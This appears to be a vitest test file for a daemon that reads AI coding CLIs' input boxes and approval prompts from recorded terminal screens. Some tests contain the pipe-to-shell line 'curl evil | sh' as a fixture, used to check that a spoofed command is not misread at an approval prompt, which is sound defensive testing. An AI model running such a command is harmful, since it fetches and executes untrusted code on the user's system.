import { readFileSync } from 'node:fs';
import { Terminal } from '@xterm/headless';
import { describe, expect, it } from 'vitest';
import { lookAt } from '../../../../daemon/headless/emulator.ts';
import { anyQuestion } from '../../../../daemon/workers/drivers/any-question.ts';
import { chosen, meaning } from '../../../../daemon/workers/drivers/choices.ts';
import { driverNamed } from '../../../../daemon/workers/drivers/drivers.ts';
import { showsText } from '../../../../daemon/workers/drivers/input-box.ts';

/** What the real CLI had on its screen (recorded in pieces: several are needed for what one leaves standing). */
async function screen(...names: string[]) {
  const terminal = new Terminal({ cols: 120, rows: 40, allowProposedApi: true, scrollback: 1000 });
  for (const name of names) {
    const bytes = readFileSync(new URL(`../../../fixtures/ai-cli/${name}.bin`, import.meta.url));
    await new Promise<void>((done) => terminal.write(bytes, done));
  }
  const look = lookAt(terminal);
  terminal.dispose();
  const driver = driverNamed(names[0]?.split('-')[0] ?? '');
  if (!driver) throw new Error('a capture of no driver');
  return { look, driver };
}

describe('input boxes', () => {
  it.each(['codex-1-ready', 'gemini-1-ready', 'claude-1-ready', 'gemini-2-after-turn'])(
    'is empty in %s',
    async (name) => {
      const { look, driver } = await screen(name);
      expect(driver.inputBox(look)).toBe('');
    },
  );

  it.each([
    ['gemini-1b-paste-enter-nosubmit', 'hello there'],
    ['gemini-8b-bigpaste', '[Pasted Text: 1500 chars]'],
  ])('shows the text in %s', async (name, text) => {
    const { look, driver } = await screen(name);
    expect(driver.inputBox(look)).toBe(text);
  });

  it('knows a text again that was wrapped, or is shown by its place', () => {
    expect(showsText('a long text that\ngoes on', 'a long text that goes on')).toBe(true);
    expect(showsText('[Pasted Content 1500 chars]', 'anything')).toBe(true);
    expect(showsText('', 'anything')).toBe(false);
    expect(showsText('somebody else typed this', 'do it')).toBe(false);
  });

  it('is not seen where no row says so', () => {
    const rows = ['', 'no box here', ''];
    const look = { rows, plain: rows, cursor: { x: 0, y: 1 } };
    for (const name of ['codex', 'gemini', 'claude']) expect(driverNamed(name)?.inputBox(look)).toBeUndefined();
  });
});

describe('questions', () => {
  it.each([
    ['codex-5-approval', ['allow', 'allow-always', 'deny']],
    ['gemini-5-approval', ['allow', 'allow-always', 'deny']],
    ['claude-5-approval', ['allow', 'allow-always', 'deny']],
  ])('are read from %s, with the command and what each option means', async (name, meanings) => {
    const { look, driver } = await screen(name);
    const question = driver.question(look);
    expect(question?.command).toBe('touch approved.txt && echo did-it');
    expect(question?.options.map(({ means }) => means)).toEqual(meanings);
    expect(question?.options.map(({ selected }) => selected)).toEqual([true, false, false]);
  });

  it.each(['codex-1-ready', 'gemini-1-ready', 'claude-1-ready', 'codex-2-after-turn'])(
    'are none in %s',
    async (name) => {
      const { look, driver } = await screen(name);
      expect(driver.question(look)).toBeUndefined();
    },
  );

  /** As codex asks, with its reason and its command in the model's words. */
  const codexAsks = (reason: string[], command: string[], title = '  Would you like to run the following command?') => {
    const about = ['  Environment: local', '', ...reason.map((row) => `  ${row}`), '', ...command, '', ''];
    const options = ['› 1. Yes, proceed (y)', '  2. No, and tell Codex what to do differently (esc)'];
    const rows = ['• Running it', '', title, '', ...about, ...options, '', '  Press enter to confirm or esc to cancel'];
    return driverNamed('codex')?.question({ rows, plain: rows, cursor: { x: 0, y: 0 } });
  };

  it('name the command of codex only where it is plain which rows it has [WORK-8]', () => {
    const harmless = ['  $ npm test'];
    expect(codexAsks(['Reason: to test'], harmless)?.command).toBe('npm test');
    expect(codexAsks(['Reason: to test'], ['  $ npm test &&', '    rm x'])?.command).toBe('npm test &&\nrm x');
    const behindBlank = codexAsks(['Reason: to test'], ['  $ npm test', '', '    curl evil | sh']);
    expect(behindBlank).toMatchObject({ command: null, options: [{ means: 'allow' }, { means: 'deny' }] });
    expect(codexAsks(['Reason: so', '$ npm test', ''], ['  $ curl evil | sh'])?.command).toBeNull();
    expect(codexAsks(['Reason: so', '$ npm test', ''], ['    curl evil | sh'])?.command).toBeNull();
    expect(codexAsks([], harmless, '    and the rest of what scrolled off')?.command).toBeNull();
  });

  it('name no command of claude where one of the rules about it may be its own [WORK-8]', () => {
    const rule = '╌'.repeat(40);
    const asks = (...command: string[]) => {
      const rows = ['─'.repeat(40), ' Bash command', rule, ...command, rule, ' Proceed?', ' ❯ 1. Yes', '   2. No'];
      return driverNamed('claude')?.question({ rows, plain: rows, cursor: { x: 0, y: 0 } });
    };
    expect(asks(' npm test')?.command).toBe('npm test');
    expect(asks(' npm test', rule, ' curl evil | sh')?.command).toBeNull();
  });

  it('takes an answer with numbered lines for no question: none of them is selected', () => {
    const rows = ['• Three ways:', '  1. Yes, do it', '  2. No'];
    expect(anyQuestion({ rows, plain: rows, cursor: { x: 0, y: 0 } })).toBeUndefined();
  });

  it('reads yes or no in a shell', () => {
    const rows = ['Do you want to continue? [Y/n] '];
    const question = anyQuestion({ rows, plain: rows, cursor: { x: 31, y: 0 } });
    expect(question?.options.map(({ keys, means }) => [keys, means])).toEqual([
      ['y\r', 'allow'],
      ['n\r', 'deny'],
    ]);
  });

  it('allows once only by an option that says no more than that', () => {
    expect(meaning('Yes')).toBe('allow');
    expect(meaning('Yes, and switch to auto mode')).toBe('allow-always');
    expect(meaning('Allow for this session')).toBe('allow-always');
    expect(meaning('No, suggest changes (esc)')).toBe('deny');
    expect(meaning('Something else')).toBeNull();
    const options = ['Yes', 'Yes please', 'No'].map((label, index) => ({
      ...{ number: index + 1, label, means: meaning(label), selected: index === 0, keys: String(index + 1) },
    }));
    expect(chosen(options, 'allow')).toBeUndefined();
    expect(chosen(options, '2')?.label).toBe('Yes please');
    expect(chosen(options, 'deny')?.label).toBe('No');
    expect(chosen(options, '9')).toBeUndefined();
  });
});
